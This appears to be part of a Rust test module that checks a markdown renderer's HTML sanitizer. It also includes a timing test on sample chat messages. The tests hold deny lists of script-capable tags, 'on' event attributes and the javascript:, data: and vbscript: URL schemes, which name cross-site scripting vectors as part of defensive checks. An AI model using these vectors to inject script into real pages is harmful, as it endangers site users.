            let context = format!("body {body:?} rendered as {html:?}");
            let lower = html.to_ascii_lowercase();
            for tag in [
                "<script",
                "<img",
                "<iframe",
                "<frame",
                "<svg",
                "<math",
                "<object",
                "<embed",
                "<style",
                "<link",
                "<form",
                "<input",
                "<button",
                "<base",
                "<meta",
                "<body",
                "<div",
                "<table",
                "<video",
                "<audio",
                "<source",
                "<details",
                "<textarea",
                "<noscript",
            ] {
                assert!(!lower.contains(tag), "{tag} in {context}");
            }
            for tag in tags(&html) {
                let allowed = ALLOWED.iter().find(|(name, _)| *name == tag.name);
                let (_, attributes) =
                    allowed.unwrap_or_else(|| panic!("<{}> in {context}", tag.name));
                for (name, value) in &tag.attributes {
                    assert!(!name.starts_with("on"), "{name}= in {context}");
                    assert!(
                        attributes.contains(&name.as_str()),
                        "{name}= on <{}> in {context}",
                        tag.name
                    );
                    match name.as_str() {
                        "href" => {
                            let url = decode(value).to_ascii_lowercase();
                            assert!(
                                ["http://", "https://", "mailto:"]
                                    .iter()
                                    .any(|s| url.starts_with(s)),
                                "href {url:?} in {context}"
                            );
                            for scheme in ["javascript:", "data:", "vbscript:"] {
                                assert!(!url.contains(scheme), "href {url:?} in {context}");
                            }
                        }
                        "rel" => assert_eq!(value, "noopener noreferrer nofollow", "{context}"),
                        "target" => assert_eq!(value, "_blank", "{context}"),
                        "class" => assert!(value.starts_with("language-"), "{context}"),
                        _ => {}
                    }
                }
            }
            // Raw HTML at the start of a body (not an autolink such as `<javascript:…>`) must
            // still be readable, as text.
            if let Some(raw) = leading_raw_tag(body) {
                assert!(
                    text_content(&html).contains(raw),
                    "{raw:?} not shown as text in {context}"
                );
            }
        }
    }

    /// `<name` when `body` starts with an HTML tag rather than an autolink.
    fn leading_raw_tag(body: &str) -> Option<&str> {
        let rest = body.strip_prefix('<')?;
        let name_len = rest
            .find(|c: char| !c.is_ascii_alphanumeric() && c != '-')
            .unwrap_or(rest.len());
        let autolink = matches!(rest[name_len..].chars().next(), Some(':' | '@'));
        (name_len > 0 && rest.starts_with(|c: char| c.is_ascii_alphabetic()) && !autolink)
            .then(|| &body[..=name_len])
    }

    struct TagSeen {
        name: String,
        closing: bool,
        attributes: Vec<(String, String)>,
    }

    /// Reads the tags of a serialized fragment. Sanitized output escapes every `<` in text and
    /// double-quotes every attribute value, so this simple reading is exact there.
    fn tags(html: &str) -> Vec<TagSeen> {
        let mut seen = Vec::new();
        let mut rest = html;
        while let Some(start) = rest.find('<') {
            rest = &rest[start + 1..];
            let closing = rest.starts_with('/');
            rest = rest.trim_start_matches('/');
            let end = rest
                .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
                .unwrap();
            let name = rest[..end].to_ascii_lowercase();
            rest = &rest[end..];
            let mut attributes = Vec::new();
            loop {
                rest = rest.trim_start();
                if let Some(after) = rest.strip_prefix('>') {
                    rest = after;
                    break;
                }
                if let Some(after) = rest.strip_prefix("/>") {
                    rest = after;
                    break;
                }
                let end = rest
                    .find(|c: char| c == '=' || c.is_whitespace() || c == '>')
                    .unwrap();
                let attribute = rest[..end].to_ascii_lowercase();
                rest = &rest[end..];
                let mut value = String::new();
                if let Some(after) = rest.strip_prefix("=\"") {
                    let close = after.find('"').unwrap();
                    value = after[..close].to_owned();
                    rest = &after[close + 1..];
                }
                attributes.push((attribute, value));
            }
            seen.push(TagSeen {
                name,
                closing,
                attributes,
            });
        }
        seen
    }

    /// The text a browser would show: tags removed, the serializer's entities decoded.
    fn text_content(html: &str) -> String {
        let mut text = String::new();
        let mut in_tag = false;
        for c in html.chars() {
            match c {
                '<' => in_tag = true,
                '>' if in_tag => in_tag = false,
                c if !in_tag => text.push(c),
                _ => {}
            }
        }
        decode(&text)
    }

    fn decode(serialized: &str) -> String {
        serialized
            .replace("&lt;", "<")
            .replace("&gt;", ">")
            .replace("&quot;", "\"")
            .replace("&nbsp;", "\u{a0}")
            .replace("&amp;", "&")
    }

    /// Cost of one typical message, in release: `cargo test --release --lib markdown -- --ignored
    /// --nocapture`.
    #[test]
    #[ignore = "timing, run by hand in release"]
    fn timing_of_a_typical_message() {
        let messages = [
            "Deploy of **v2.3** is done :tada:\nLogs: https://ci.example.com/builds/1234 and \
             `cargo test` passes locally.\n> can you check the *staging* db before 5pm?\nthanks!",
            "ok, I'll look at it after lunch. The migration touched three tables and I want to be \
             sure the rollback script works before we run it on production tomorrow morning, ok?",
        ];
        for message in messages {
            let rounds = 20_000;
            let started = std::time::Instant::now();
            let mut bytes = 0;
            for _ in 0..rounds {
                bytes += render(std::hint::black_box(message)).len();
            }
            let each = started.elapsed() / rounds;
            println!(
                "{} bytes -> {} bytes of HTML: {each:?} per render",
                message.len(),
                bytes / 20_000
            );
        }
    }
}
